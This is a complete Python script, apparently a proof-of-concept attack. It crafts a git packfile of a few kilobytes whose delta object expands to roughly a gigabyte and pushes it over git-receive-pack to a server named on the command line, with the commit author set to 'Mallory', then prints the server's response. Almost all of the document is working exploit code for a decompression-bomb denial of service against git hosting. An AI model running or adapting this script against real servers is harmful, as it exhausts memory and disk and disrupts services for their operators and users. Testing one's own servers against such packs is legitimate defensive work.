"""Pushes a pack of some kilobytes that unfolds to a gigabyte: deltabomb.py <git-receive-pack over ssh...>

Prints what the server answers."""
import hashlib
import struct
import subprocess
import sys
import zlib

BASE = 1 << 24
COPIES = 64


def size(number, kind):
    """The head of an object in a pack."""
    byte = kind << 4 | number & 15
    number >>= 4
    head = b""
    while number:
        head += bytes([byte | 0x80])
        byte = number & 0x7F
        number >>= 7
    return head + bytes([byte])


def variable(number):
    head = b""
    while number >= 0x80:
        head += bytes([number & 0x7F | 0x80])
        number >>= 7
    return head + bytes([number])


def name(kind, content):
    return hashlib.sha1(f"{kind} {len(content)}\0".encode() + content).digest()


base = bytes(BASE)
# Copies of 0xffffff bytes from offset 0, again and again.
copy = bytes([0x80 | 0x10 | 0x20 | 0x40, 0xFF, 0xFF, 0xFF])
delta = variable(BASE) + variable(0xFFFFFF * COPIES) + copy * COPIES
bomb = hashlib.sha1(f"blob {0xFFFFFF * COPIES}\0".encode())
for _ in range(COPIES):
    bomb.update(base[:0xFFFFFF])
tree = b"100644 bomb\0" + bomb.digest()
person = "Mallory <mallory@example.com> 1700000000 +0000"
commit = f"tree {name('tree', tree).hex()}\nauthor {person}\ncommitter {person}\n\nboom\n".encode()

objects = [
    size(len(commit), 1) + zlib.compress(commit),
    size(len(tree), 2) + zlib.compress(tree),
    size(len(base), 3) + zlib.compress(base, 9),
    size(len(delta), 7) + name("blob", base) + zlib.compress(delta, 9),
]
pack = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
pack += hashlib.sha1(pack).digest()

server = subprocess.Popen(sys.argv[1:], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
update = f"{'0' * 40} {name('commit', commit).hex()} refs/heads/bomb\0report-status agent=test".encode()
server.stdin.write(f"{len(update) + 4:04x}".encode() + update + b"0000" + pack)
server.stdin.close()
print(f"pack: {len(pack)} bytes")
print(server.stdout.read().decode(errors="replace"))
print(f"status: {server.wait()}")
